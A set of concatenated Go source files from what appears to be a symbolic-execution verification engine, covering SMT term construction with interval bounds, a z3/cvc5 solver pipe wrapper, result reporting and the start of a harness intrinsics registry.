	fmt.Fprintf(&sb, "harness %s %v: paths=%d steps=%d obligations=%d discharged=%d (trivial %d) inconclusive=%d violations=%d reach=%d wall=%.1fs\n",
		r.Harness, r.Params, r.Paths, r.Steps, r.Obligations, r.Discharged, r.Trivial, len(r.Inconclusive), len(r.Violations), len(r.Reach), r.Wall.Seconds())
	ends := []string{}
	for k, v := range r.PathEnds {
		ends = append(ends, fmt.Sprintf("%s=%d", k, v))
	}
	sort.Strings(ends)
	fmt.Fprintf(&sb, "  path ends: %s; queries: %v\n", strings.Join(ends, " "), r.Queries)
	for k, v := range r.Notes {
		fmt.Fprintf(&sb, "  note: %s (x%d)\n", k, v)
	}
	for _, e := range r.Errors {
		fmt.Fprintf(&sb, "  ERROR: %s\n", e)
	}
	for _, e := range r.Inconclusive {
		fmt.Fprintf(&sb, "  INCONCLUSIVE: %s\n", e)
	}
	byMsg := map[string]int{}
	for _, v := range r.Violations {
		byMsg[v.Msg]++
	}
	for m, c := range byMsg {
		fmt.Fprintf(&sb, "  CEX-GROUP x%d: %s\n", c, m)
	}
	for i, v := range r.Violations {
		if i >= 6 {
			fmt.Fprintf(&sb, "  ... %d more counterexamples\n", len(r.Violations)-i)
			break
		}
		fmt.Fprintf(&sb, "  CEX %s: %s at %s model=%v\n", v.Kind, v.Msg, v.Where, v.Model)
	}
	return sb.String()
}
