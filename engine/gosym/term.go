package gosym

import (
	"fmt"
	"math/big"
	"strings"
)

// SMT prelude shared by every solver session.
const Prelude = `
(define-fun tdiv ((a Int) (b Int)) Int (ite (>= a 0) (div a b) (- (div (- a) b))))
(define-fun trem ((a Int) (b Int)) Int (- a (* b (tdiv a b))))
(define-fun absI ((a Int)) Int (ite (>= a 0) a (- a)))
(define-fun minI ((a Int) (b Int)) Int (ite (<= a b) a b))
(define-fun maxI ((a Int) (b Int)) Int (ite (>= a b) a b))
(define-fun wrapU ((x Int) (m Int)) Int (mod x m))
(define-fun wrapS ((x Int) (m Int)) Int (let ((r (mod x m))) (ite (>= (* 2 r) m) (- r m) r)))
(define-fun chopRoundPos ((x Int)) Int (let ((q (div x 1000000000000000000)) (r (mod x 1000000000000000000))) (ite (< r 500000000000000000) q (ite (> r 500000000000000000) (+ q 1) (ite (= (mod q 2) 0) q (+ q 1))))))
(define-fun chopRound ((x Int)) Int (ite (>= x 0) (chopRoundPos x) (- (chopRoundPos (- x)))))
(define-fun chopTrunc ((x Int)) Int (tdiv x 1000000000000000000))
(define-fun chopRoundUpPos ((x Int)) Int (let ((q (div x 1000000000000000000)) (r (mod x 1000000000000000000))) (ite (= r 0) q (+ q 1))))
(define-fun chopRoundUp ((x Int)) Int (ite (>= x 0) (chopRoundUpPos x) (- (chopTrunc (- x)))))
`

func lit(b *big.Int) string {
	if b.Sign() < 0 {
		return "(- " + new(big.Int).Neg(b).String() + ")"
	}
	return b.String()
}

// T renders a scalar value as an SMT term.
func T(v Value) string {
	switch x := v.(type) {
	case *big.Int:
		return lit(x)
	case bool:
		if x {
			return "true"
		}
		return "false"
	case *Sym:
		return x.T
	}
	panic(unsupported(fmt.Sprintf("T(%T)", v)))
}

func isSym(v Value) bool { _, ok := v.(*Sym); return ok }

func bitsOf(v Value) int {
	switch x := v.(type) {
	case *big.Int:
		return x.BitLen() + 1
	case *Sym:
		return x.Bits
	}
	return 0
}

func nonNeg(v Value) bool {
	switch x := v.(type) {
	case *big.Int:
		return x.Sign() >= 0
	case *Sym:
		return x.NonNeg
	}
	return false
}

func symI(t string, bits int, nn bool) *Sym { return &Sym{S: SInt, T: t, Bits: bits, NonNeg: nn} }
func symB(t string) *Sym                    { return &Sym{S: SBool, T: t} }

func asBig(v Value) *big.Int {
	if b, ok := v.(*big.Int); ok {
		return b
	}
	panic(unsupported(fmt.Sprintf("expected concrete integer, got %T %v", v, v)))
}

func mkAdd(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Add(x, y)
	}
	if xo && x.Sign() == 0 {
		return b
	}
	if yo && y.Sign() == 0 {
		return a
	}
	bits := 0
	if bitsOf(a) > 0 && bitsOf(b) > 0 {
		bits = max(bitsOf(a), bitsOf(b)) + 1
	}
	return symI("(+ "+T(a)+" "+T(b)+")", bits, nonNeg(a) && nonNeg(b))
}

func mkSub(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Sub(x, y)
	}
	if yo && y.Sign() == 0 {
		return a
	}
	bits := 0
	if bitsOf(a) > 0 && bitsOf(b) > 0 {
		bits = max(bitsOf(a), bitsOf(b)) + 1
	}
	if T(a) == T(b) {
		return big.NewInt(0)
	}
	return symI("(- "+T(a)+" "+T(b)+")", bits, false)
}

func mkNeg(a Value) Value {
	if x, ok := a.(*big.Int); ok {
		return new(big.Int).Neg(x)
	}
	return symI("(- "+T(a)+")", bitsOf(a), false)
}

func mkMul(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Mul(x, y)
	}
	if xo && x.Sign() == 0 || yo && y.Sign() == 0 {
		return big.NewInt(0)
	}
	if xo && x.Cmp(big.NewInt(1)) == 0 {
		return b
	}
	if yo && y.Cmp(big.NewInt(1)) == 0 {
		return a
	}
	bits := 0
	if bitsOf(a) > 0 && bitsOf(b) > 0 {
		bits = bitsOf(a) + bitsOf(b)
	}
	return symI("(* "+T(a)+" "+T(b)+")", bits, nonNeg(a) && nonNeg(b))
}

// mkQuoT: Go / big.Int.Quo truncated division. Divisor must be known non-zero by the caller.
func mkQuoT(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Quo(x, y)
	}
	if yo && y.Cmp(big.NewInt(1)) == 0 {
		return a
	}
	if nonNeg(a) && nonNeg(b) {
		return symI("(div "+T(a)+" "+T(b)+")", bitsOf(a), true)
	}
	return symI("(tdiv "+T(a)+" "+T(b)+")", bitsOf(a), false)
}

func mkRemT(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Rem(x, y)
	}
	if nonNeg(a) && nonNeg(b) {
		return symI("(mod "+T(a)+" "+T(b)+")", bitsOf(b), true)
	}
	return symI("(trem "+T(a)+" "+T(b)+")", bitsOf(b), false)
}

// mkDivE / mkModE: Euclidean (big.Int.Div / Mod), which is SMT-LIB div/mod.
func mkDivE(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Div(x, y)
	}
	return symI("(div "+T(a)+" "+T(b)+")", bitsOf(a), nonNeg(a) && nonNeg(b))
}

func mkModE(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Mod(x, y)
	}
	return symI("(mod "+T(a)+" "+T(b)+")", bitsOf(b), true)
}

func mkCmp(op string, a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		c := x.Cmp(y)
		switch op {
		case "<":
			return c < 0
		case "<=":
			return c <= 0
		case ">":
			return c > 0
		case ">=":
			return c >= 0
		case "=":
			return c == 0
		case "!=":
			return c != 0
		}
	}
	if T(a) == T(b) {
		switch op {
		case "<", ">", "!=":
			return false
		default:
			return true
		}
	}
	if op == "!=" {
		return symB("(not (= " + T(a) + " " + T(b) + "))")
	}
	return symB("(" + op + " " + T(a) + " " + T(b) + ")")
}

func mkNot(a Value) Value {
	if x, ok := a.(bool); ok {
		return !x
	}
	t := T(a)
	if strings.HasPrefix(t, "(not ") {
		return symB(t[5 : len(t)-1])
	}
	return symB("(not " + t + ")")
}

func mkAnd(vs ...Value) Value {
	var ts []string
	for _, v := range vs {
		if b, ok := v.(bool); ok {
			if !b {
				return false
			}
			continue
		}
		ts = append(ts, T(v))
	}
	switch len(ts) {
	case 0:
		return true
	case 1:
		return symB(ts[0])
	}
	return symB("(and " + strings.Join(ts, " ") + ")")
}

func mkOr(vs ...Value) Value {
	var ts []string
	for _, v := range vs {
		if b, ok := v.(bool); ok {
			if b {
				return true
			}
			continue
		}
		ts = append(ts, T(v))
	}
	switch len(ts) {
	case 0:
		return false
	case 1:
		return symB(ts[0])
	}
	return symB("(or " + strings.Join(ts, " ") + ")")
}

func mkImplies(a, b Value) Value { return mkOr(mkNot(a), b) }

func mkBoolEq(a, b Value) Value {
	x, xo := a.(bool)
	y, yo := b.(bool)
	if xo && yo {
		return x == y
	}
	if xo {
		if x {
			return b
		}
		return mkNot(b)
	}
	if yo {
		if y {
			return a
		}
		return mkNot(a)
	}
	return symB("(= " + T(a) + " " + T(b) + ")")
}

// mkIte over Int or Bool scalars.
func mkIte(c, a, b Value) Value {
	if cb, ok := c.(bool); ok {
		if cb {
			return a
		}
		return b
	}
	if _, ok := a.(bool); ok || isBoolSym(a) || isBoolSym(b) {
		return mkOr(mkAnd(c, a), mkAnd(mkNot(c), b))
	}
	if _, ok := b.(bool); ok {
		return mkOr(mkAnd(c, a), mkAnd(mkNot(c), b))
	}
	if T(a) == T(b) {
		return a
	}
	bits := 0
	if bitsOf(a) > 0 && bitsOf(b) > 0 {
		bits = max(bitsOf(a), bitsOf(b))
	}
	return symI("(ite "+T(c)+" "+T(a)+" "+T(b)+")", bits, nonNeg(a) && nonNeg(b))
}

func isBoolSym(v Value) bool {
	s, ok := v.(*Sym)
	return ok && s.S == SBool
}

func mkMin(a, b Value) Value { return mkIte(mkCmp("<=", a, b), a, b) }
func mkMax(a, b Value) Value { return mkIte(mkCmp(">=", a, b), a, b) }

func pow2(n int) *big.Int { return new(big.Int).Lsh(big.NewInt(1), uint(n)) }

var pow10_18 = new(big.Int).Exp(big.NewInt(10), big.NewInt(18), nil)

func app1(f string, a Value, bits int) Value {
	return symI("("+f+" "+T(a)+")", bits, false)
}
