package gosym

import (
	"fmt"
	"math/big"
	"strings"
)

// SMT prelude shared by every solver session.
const Prelude = `
(define-fun tdiv ((a Int) (b Int)) Int (ite (>= a 0) (div a b) (- (div (- a) b))))
(define-fun trem ((a Int) (b Int)) Int (- a (* b (tdiv a b))))
(define-fun absI ((a Int)) Int (ite (>= a 0) a (- a)))
(define-fun minI ((a Int) (b Int)) Int (ite (<= a b) a b))
(define-fun maxI ((a Int) (b Int)) Int (ite (>= a b) a b))
(define-fun wrapU ((x Int) (m Int)) Int (mod x m))
(define-fun wrapS ((x Int) (m Int)) Int (let ((r (mod x m))) (ite (>= (* 2 r) m) (- r m) r)))
(define-fun chopRoundPos ((x Int)) Int (let ((q (div x 1000000000000000000)) (r (mod x 1000000000000000000))) (ite (< r 500000000000000000) q (ite (> r 500000000000000000) (+ q 1) (ite (= (mod q 2) 0) q (+ q 1))))))
(define-fun chopRound ((x Int)) Int (ite (>= x 0) (chopRoundPos x) (- (chopRoundPos (- x)))))
(define-fun chopTrunc ((x Int)) Int (tdiv x 1000000000000000000))
(define-fun chopRoundUpPos ((x Int)) Int (let ((q (div x 1000000000000000000)) (r (mod x 1000000000000000000))) (ite (= r 0) q (+ q 1))))
(define-fun chopRoundUp ((x Int)) Int (ite (>= x 0) (chopRoundUpPos x) (- (chopTrunc (- x)))))
`

func lit(b *big.Int) string {
	if b.Sign() < 0 {
		return "(- " + new(big.Int).Neg(b).String() + ")"
	}
	return b.String()
}

// T renders a scalar value as an SMT term.
func T(v Value) string {
	switch x := v.(type) {
	case *big.Int:
		return lit(x)
	case bool:
		if x {
			return "true"
		}
		return "false"
	case *Sym:
		return x.T
	}
	panic(unsupported(fmt.Sprintf("T(%T)", v)))
}

func isSym(v Value) bool { _, ok := v.(*Sym); return ok }

// rng returns the conservatively known interval of an integer value (nil = unknown bound).
func rng(v Value) (lo, hi *big.Int) {
	switch x := v.(type) {
	case *big.Int:
		return x, x
	case *Sym:
		return x.Lo, x.Hi
	}
	return nil, nil
}

func nonNeg(v Value) bool {
	lo, _ := rng(v)
	return lo != nil && lo.Sign() >= 0
}

// within: the value is known to lie in [lo, hi].
func within(v Value, lo, hi *big.Int) bool {
	l, h := rng(v)
	return l != nil && h != nil && l.Cmp(lo) >= 0 && h.Cmp(hi) <= 0
}

// absBelow: |v| < limit is known.
func absBelow(v Value, limit *big.Int) bool {
	l, h := rng(v)
	if l == nil || h == nil {
		return false
	}
	return new(big.Int).Abs(l).Cmp(limit) < 0 && new(big.Int).Abs(h).Cmp(limit) < 0
}

func maxAbs(lo, hi *big.Int) *big.Int {
	a, b := new(big.Int).Abs(lo), new(big.Int).Abs(hi)
	if a.Cmp(b) > 0 {
		return a
	}
	return b
}

func symI(t string, lo, hi *big.Int) *Sym { return &Sym{S: SInt, T: t, Lo: lo, Hi: hi} }
func symB(t string) *Sym                  { return &Sym{S: SBool, T: t} }

// withRange returns s with its interval intersected with [lo, hi] (nil = no constraint).
func withRange(s *Sym, lo, hi *big.Int) *Sym {
	n := &Sym{S: s.S, T: s.T, Lo: s.Lo, Hi: s.Hi}
	if lo != nil && (n.Lo == nil || lo.Cmp(n.Lo) > 0) {
		n.Lo = lo
	}
	if hi != nil && (n.Hi == nil || hi.Cmp(n.Hi) < 0) {
		n.Hi = hi
	}
	return n
}

func bmin(xs ...*big.Int) *big.Int {
	m := xs[0]
	for _, x := range xs[1:] {
		if x.Cmp(m) < 0 {
			m = x
		}
	}
	return m
}
func bmax(xs ...*big.Int) *big.Int {
	m := xs[0]
	for _, x := range xs[1:] {
		if x.Cmp(m) > 0 {
			m = x
		}
	}
	return m
}

func asBig(v Value) *big.Int {
	if b, ok := v.(*big.Int); ok {
		return b
	}
	panic(unsupported(fmt.Sprintf("expected concrete integer, got %T %v", v, v)))
}

func mkAdd(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Add(x, y)
	}
	if xo && x.Sign() == 0 {
		return b
	}
	if yo && y.Sign() == 0 {
		return a
	}
	al, ah := rng(a)
	bl, bh := rng(b)
	var lo, hi *big.Int
	if al != nil && bl != nil {
		lo = new(big.Int).Add(al, bl)
	}
	if ah != nil && bh != nil {
		hi = new(big.Int).Add(ah, bh)
	}
	return symI("(+ "+T(a)+" "+T(b)+")", lo, hi)
}

func mkSub(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Sub(x, y)
	}
	if yo && y.Sign() == 0 {
		return a
	}
	if T(a) == T(b) {
		return big.NewInt(0)
	}
	al, ah := rng(a)
	bl, bh := rng(b)
	var lo, hi *big.Int
	if al != nil && bh != nil {
		lo = new(big.Int).Sub(al, bh)
	}
	if ah != nil && bl != nil {
		hi = new(big.Int).Sub(ah, bl)
	}
	return symI("(- "+T(a)+" "+T(b)+")", lo, hi)
}

func mkNeg(a Value) Value {
	if x, ok := a.(*big.Int); ok {
		return new(big.Int).Neg(x)
	}
	al, ah := rng(a)
	var lo, hi *big.Int
	if ah != nil {
		lo = new(big.Int).Neg(ah)
	}
	if al != nil {
		hi = new(big.Int).Neg(al)
	}
	return symI("(- "+T(a)+")", lo, hi)
}

func mkMul(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Mul(x, y)
	}
	if xo && x.Sign() == 0 || yo && y.Sign() == 0 {
		return big.NewInt(0)
	}
	if xo && x.Cmp(big.NewInt(1)) == 0 {
		return b
	}
	if yo && y.Cmp(big.NewInt(1)) == 0 {
		return a
	}
	al, ah := rng(a)
	bl, bh := rng(b)
	var lo, hi *big.Int
	if al != nil && ah != nil && bl != nil && bh != nil {
		p1, p2, p3, p4 := new(big.Int).Mul(al, bl), new(big.Int).Mul(al, bh), new(big.Int).Mul(ah, bl), new(big.Int).Mul(ah, bh)
		lo, hi = bmin(p1, p2, p3, p4), bmax(p1, p2, p3, p4)
	} else if nonNeg(a) && nonNeg(b) {
		lo = big.NewInt(0)
	}
	return symI("(* "+T(a)+" "+T(b)+")", lo, hi)
}

// mkQuoT: Go / big.Int.Quo truncated division. Divisor must be known non-zero by the caller.
func mkQuoT(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Quo(x, y)
	}
	if yo && y.Cmp(big.NewInt(1)) == 0 {
		return a
	}
	al, ah := rng(a)
	mb := minAbsDivisor(b)
	if nonNeg(a) && nonNeg(b) {
		var hi *big.Int
		if ah != nil {
			hi = new(big.Int).Quo(ah, mb)
		}
		return symI("(div "+T(a)+" "+T(b)+")", big.NewInt(0), hi)
	}
	var lo, hi *big.Int
	if al != nil && ah != nil {
		m := new(big.Int).Quo(maxAbs(al, ah), mb)
		lo, hi = new(big.Int).Neg(m), m
	}
	return symI("(tdiv "+T(a)+" "+T(b)+")", lo, hi)
}

func mkRemT(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Rem(x, y)
	}
	bl, bh := rng(b)
	var m *big.Int
	if bl != nil && bh != nil {
		m = new(big.Int).Sub(maxAbs(bl, bh), big.NewInt(1))
		if m.Sign() < 0 {
			m = big.NewInt(0)
		}
	}
	if nonNeg(a) && nonNeg(b) {
		return symI("(mod "+T(a)+" "+T(b)+")", big.NewInt(0), m)
	}
	var lo *big.Int
	if m != nil {
		lo = new(big.Int).Neg(m)
	}
	return symI("(trem "+T(a)+" "+T(b)+")", lo, m)
}

// mkDivE / mkModE: Euclidean (big.Int.Div / Mod), which is SMT-LIB div/mod.
func mkDivE(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Div(x, y)
	}
	al, ah := rng(a)
	mb := minAbsDivisor(b)
	if nonNeg(a) && nonNeg(b) {
		var hi *big.Int
		if ah != nil {
			hi = new(big.Int).Quo(ah, mb)
		}
		return symI("(div "+T(a)+" "+T(b)+")", big.NewInt(0), hi)
	}
	var lo, hi *big.Int
	if al != nil && ah != nil {
		m := new(big.Int).Add(new(big.Int).Quo(maxAbs(al, ah), mb), big.NewInt(1))
		lo, hi = new(big.Int).Neg(m), m
	}
	return symI("(div "+T(a)+" "+T(b)+")", lo, hi)
}

func mkModE(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return new(big.Int).Mod(x, y)
	}
	bl, bh := rng(b)
	var m *big.Int
	if bl != nil && bh != nil {
		m = new(big.Int).Sub(maxAbs(bl, bh), big.NewInt(1))
		if m.Sign() < 0 {
			m = big.NewInt(0)
		}
	}
	return symI("(mod "+T(a)+" "+T(b)+")", big.NewInt(0), m)
}

func mkCmp(op string, a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		c := x.Cmp(y)
		switch op {
		case "<":
			return c < 0
		case "<=":
			return c <= 0
		case ">":
			return c > 0
		case ">=":
			return c >= 0
		case "=":
			return c == 0
		case "!=":
			return c != 0
		}
	}
	if T(a) == T(b) {
		switch op {
		case "<", ">", "!=":
			return false
		default:
			return true
		}
	}
	if op == "!=" {
		return symB("(not (= " + T(a) + " " + T(b) + "))")
	}
	return symB("(" + op + " " + T(a) + " " + T(b) + ")")
}

func mkNot(a Value) Value {
	if x, ok := a.(bool); ok {
		return !x
	}
	t := T(a)
	if strings.HasPrefix(t, "(not ") {
		return symB(t[5 : len(t)-1])
	}
	return symB("(not " + t + ")")
}

func mkAnd(vs ...Value) Value {
	var ts []string
	for _, v := range vs {
		if b, ok := v.(bool); ok {
			if !b {
				return false
			}
			continue
		}
		ts = append(ts, T(v))
	}
	switch len(ts) {
	case 0:
		return true
	case 1:
		return symB(ts[0])
	}
	return symB("(and " + strings.Join(ts, " ") + ")")
}

func mkOr(vs ...Value) Value {
	var ts []string
	for _, v := range vs {
		if b, ok := v.(bool); ok {
			if b {
				return true
			}
			continue
		}
		ts = append(ts, T(v))
	}
	switch len(ts) {
	case 0:
		return false
	case 1:
		return symB(ts[0])
	}
	return symB("(or " + strings.Join(ts, " ") + ")")
}

func mkImplies(a, b Value) Value { return mkOr(mkNot(a), b) }

func mkBoolEq(a, b Value) Value {
	x, xo := a.(bool)
	y, yo := b.(bool)
	if xo && yo {
		return x == y
	}
	if xo {
		if x {
			return b
		}
		return mkNot(b)
	}
	if yo {
		if y {
			return a
		}
		return mkNot(a)
	}
	return symB("(= " + T(a) + " " + T(b) + ")")
}

// mkIte over Int or Bool scalars.
func mkIte(c, a, b Value) Value {
	if cb, ok := c.(bool); ok {
		if cb {
			return a
		}
		return b
	}
	if _, ok := a.(bool); ok || isBoolSym(a) || isBoolSym(b) {
		return mkOr(mkAnd(c, a), mkAnd(mkNot(c), b))
	}
	if _, ok := b.(bool); ok {
		return mkOr(mkAnd(c, a), mkAnd(mkNot(c), b))
	}
	if T(a) == T(b) {
		return a
	}
	al, ah := rng(a)
	bl, bh := rng(b)
	var lo, hi *big.Int
	if al != nil && bl != nil {
		lo = bmin(al, bl)
	}
	if ah != nil && bh != nil {
		hi = bmax(ah, bh)
	}
	return symI("(ite "+T(c)+" "+T(a)+" "+T(b)+")", lo, hi)
}

func isBoolSym(v Value) bool {
	s, ok := v.(*Sym)
	return ok && s.S == SBool
}

func mkMin(a, b Value) Value { return mkIte(mkCmp("<=", a, b), a, b) }
func mkMax(a, b Value) Value { return mkIte(mkCmp(">=", a, b), a, b) }

func pow2(n int) *big.Int { return new(big.Int).Lsh(big.NewInt(1), uint(n)) }

var pow10_18 = new(big.Int).Exp(big.NewInt(10), big.NewInt(18), nil)



// minAbsDivisor: a lower bound (>= 1) of |b| over the known interval of a divisor (callers exclude b = 0 beforehand).
func minAbsDivisor(b Value) *big.Int {
	bl, bh := rng(b)
	one := big.NewInt(1)
	if bl != nil && bl.Sign() > 0 {
		return bl
	}
	if bh != nil && bh.Sign() < 0 {
		return new(big.Int).Neg(bh)
	}
	return one
}
