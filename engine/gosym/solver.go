package gosym

import (
	"bufio"
	"fmt"
	"io"
	"os/exec"
	"strings"
	"sync/atomic"
	"time"
)

// Solver is one long-lived SMT solver process talking SMT-LIB2 over pipes.
type Solver struct {
	Name    string
	cmd     *exec.Cmd
	in      io.WriteCloser
	out     *bufio.Reader
	Queries int
	Time    time.Duration
	Log     io.Writer
	dead    bool
	kind    string
	timeoutMs int
	curTimeout int
}

var solverSeq int64

func solverArgv(kind string) []string {
	switch kind {
	case "z3":
		return []string{"z3", "-in"}
	case "z3-new":
		return []string{"z3-new", "-in"}
	case "cvc5":
		return []string{"cvc5", "--incremental", "--lang=smt2", "--produce-models", "--nl-cov"}
	}
	panic("unknown solver " + kind)
}

func StartSolver(kind string, timeoutMs int) (*Solver, error) {
	argv := solverArgv(kind)
	if kind == "cvc5" {
		argv = append(argv, fmt.Sprintf("--tlimit-per=%d", timeoutMs))
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	in, err := cmd.StdinPipe()
	if err != nil {
		return nil, err
	}
	outp, err := cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	cmd.Stderr = cmd.Stdout
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	s := &Solver{Name: fmt.Sprintf("%s#%d", kind, atomic.AddInt64(&solverSeq, 1)), cmd: cmd, in: in, out: bufio.NewReaderSize(outp, 1<<20), kind: kind, timeoutMs: timeoutMs}
	s.Reset()
	return s, nil
}

func (s *Solver) Close() {
	if s == nil || s.dead {
		return
	}
	s.dead = true
	s.in.Close()
	s.cmd.Process.Kill()
	s.cmd.Wait()
}

func (s *Solver) raw(txt string) {
	if s.Log != nil {
		io.WriteString(s.Log, txt)
	}
	io.WriteString(s.in, txt)
}

// Reset clears the solver state and re-sends options and prelude.
func (s *Solver) Reset() {
	if s.kind == "cvc5" {
		s.raw("(reset)\n(set-logic ALL)\n(set-option :produce-models true)\n")
	} else {
		s.raw(fmt.Sprintf("(reset)\n(set-option :timeout %d)\n(set-option :produce-models true)\n", s.timeoutMs))
		s.curTimeout = s.timeoutMs
	}
	s.raw(Prelude)
}

// Send writes commands that produce no output (declare/define/assert/push/pop).
func (s *Solver) Send(txt string) { s.raw(txt) }

// sync sends an echo marker and returns every output line seen before it.
func (s *Solver) sync() ([]string, error) {
	s.raw("(echo \"##sync\")\n")
	var lines []string
	for {
		l, err := s.out.ReadString('\n')
		if err != nil {
			s.dead = true
			return lines, fmt.Errorf("solver %s died: %v", s.Name, err)
		}
		l = strings.TrimSpace(l)
		if l == "##sync" || l == "\"##sync\"" {
			return lines, nil
		}
		if l != "" {
			lines = append(lines, l)
		}
	}
}

// CheckSat returns "sat", "unsat" or "unknown" (any error line => "unknown").
func (s *Solver) CheckSat() string {
	t0 := time.Now()
	s.raw("(check-sat)\n")
	lines, err := s.sync()
	s.Queries++
	s.Time += time.Since(t0)
	if err != nil {
		return "unknown"
	}
	res := "unknown"
	for _, l := range lines {
		if strings.HasPrefix(l, "(error") {
			if s.Log != nil {
				fmt.Fprintf(s.Log, "; ERROR LINE: %s\n", l)
			}
			return "error:" + l
		}
		switch l {
		case "sat", "unsat", "unknown":
			res = l
		case "timeout":
			res = "unknown"
		}
	}
	return res
}

// GetValues returns the model values (as decimal strings / "true"/"false") of the given constants.
func (s *Solver) GetValues(names []string) map[string]string {
	res := map[string]string{}
	for i := 0; i < len(names); i += 50 {
		j := min(i+50, len(names))
		s.raw("(get-value (" + strings.Join(names[i:j], " ") + "))\n")
		lines, err := s.sync()
		if err != nil {
			return res
		}
		txt := strings.Join(lines, " ")
		parseValues(txt, res)
	}
	return res
}

// parseValues parses "((a 1) (b (- 2)) (c true))".
func parseValues(txt string, res map[string]string) {
	toks := tokenize(txt)
	// expect ( ( name value ) ... )
	i := 0
	var parse func() interface{}
	parse = func() interface{} {
		if i >= len(toks) {
			return nil
		}
		t := toks[i]
		i++
		if t == "(" {
			var l []interface{}
			for i < len(toks) && toks[i] != ")" {
				l = append(l, parse())
			}
			i++
			return l
		}
		return t
	}
	for i < len(toks) {
		top := parse()
		l, ok := top.([]interface{})
		if !ok {
			continue
		}
		for _, e := range l {
			p, ok := e.([]interface{})
			if !ok || len(p) != 2 {
				continue
			}
			name, ok := p[0].(string)
			if !ok {
				continue
			}
			res[name] = evalSexp(p[1])
		}
	}
}

func evalSexp(e interface{}) string {
	switch x := e.(type) {
	case string:
		return x
	case []interface{}:
		if len(x) == 2 {
			if op, ok := x[0].(string); ok && op == "-" {
				v := evalSexp(x[1])
				if strings.HasPrefix(v, "-") {
					return v[1:]
				}
				return "-" + v
			}
		}
		var parts []string
		for _, p := range x {
			parts = append(parts, evalSexp(p))
		}
		return "(" + strings.Join(parts, " ") + ")"
	}
	return "?"
}

func tokenize(s string) []string {
	var toks []string
	cur := strings.Builder{}
	flush := func() {
		if cur.Len() > 0 {
			toks = append(toks, cur.String())
			cur.Reset()
		}
	}
	for _, r := range s {
		switch r {
		case '(', ')':
			flush()
			toks = append(toks, string(r))
		case ' ', '\t', '\n', '\r':
			flush()
		default:
			cur.WriteRune(r)
		}
	}
	flush()
	return toks
}

// SetTimeout changes the per-query time limit (z3 only; cvc5 keeps its start-up limit).
func (s *Solver) SetTimeout(ms int) {
	if s.kind == "cvc5" || ms <= 0 || ms == s.curTimeout {
		return
	}
	s.curTimeout = ms
	s.raw(fmt.Sprintf("(set-option :timeout %d)\n", ms))
}
