package gosym

import (
	"bytes"
	"fmt"
	"math/big"
	"sort"
	"strconv"
	"strings"
)

func registerIntrinsics(P *Program) {
	registerZZ(P)
	registerBig(P)
	registerSdkMath(P)
	registerCoins(P)
	registerDecCoins(P)
	registerTime(P)
	registerMisc(P)
	registerBinary(P)
	registerSDK(P)
	registerSDK2(P)
}

func (P *Program) reg(name string, h Intrinsic) { P.intrinsics[name] = h }

func tagOf(v Value) string {
	s, ok := v.(string)
	if !ok {
		panic(unsupported("harness tag must be a constant string"))
	}
	return s
}

func (it *Interp) anyRange(tag string, lo, hi *big.Int, kind string) Value {
	if it.R.Pinned != nil {
		v, _ := it.pinned(it.nextTag(tag))
		b := bigFromDec(v)
		if lo != nil && b.Cmp(lo) < 0 || hi != nil && b.Cmp(hi) > 0 {
			panic(&pathEnd{why: "assume-false"})
		}
		return b
	}
	s := it.declareAny(tag, SInt, kind)
	if lo != nil {
		it.emit("(assert (>= " + s.T + " " + lit(lo) + "))")
		s.Lo = lo
	}
	if hi != nil {
		it.emit("(assert (<= " + s.T + " " + lit(hi) + "))")
		s.Hi = hi
	}
	it.anySyms[len(it.anySyms)-1].Lo, it.anySyms[len(it.anySyms)-1].Hi = lo, hi
	return s
}

func boolSlice(it *Interp, v Value) []Value {
	s := v.(*SliceV)
	if s.Len == 0 {
		return nil
	}
	return s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len]
}

func strSlice(it *Interp, v Value) []string {
	s := it.asSlice(v)
	var out []string
	if s.Len == 0 {
		return nil
	}
	for _, e := range s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len] {
		out = append(out, e.(string))
	}
	return out
}

func registerZZ(P *Program) {
	i64lo, i64hi := new(big.Int).Neg(pow2(63)), new(big.Int).Sub(pow2(63), big.NewInt(1))
	P.reg("zzverif.AnyInt64", func(it *Interp, a []Value) Value {
		return it.anyRange(tagOf(a[0]), i64lo, i64hi, "int64")
	})
	P.reg("zzverif.AnyInt64In", func(it *Interp, a []Value) Value {
		return it.anyRange(tagOf(a[0]), asBig(a[1]), asBig(a[2]), "int64")
	})
	P.reg("zzverif.AnyUint64", func(it *Interp, a []Value) Value {
		return it.anyRange(tagOf(a[0]), big.NewInt(0), new(big.Int).Sub(pow2(64), big.NewInt(1)), "uint64")
	})
	P.reg("zzverif.AnyUint64In", func(it *Interp, a []Value) Value {
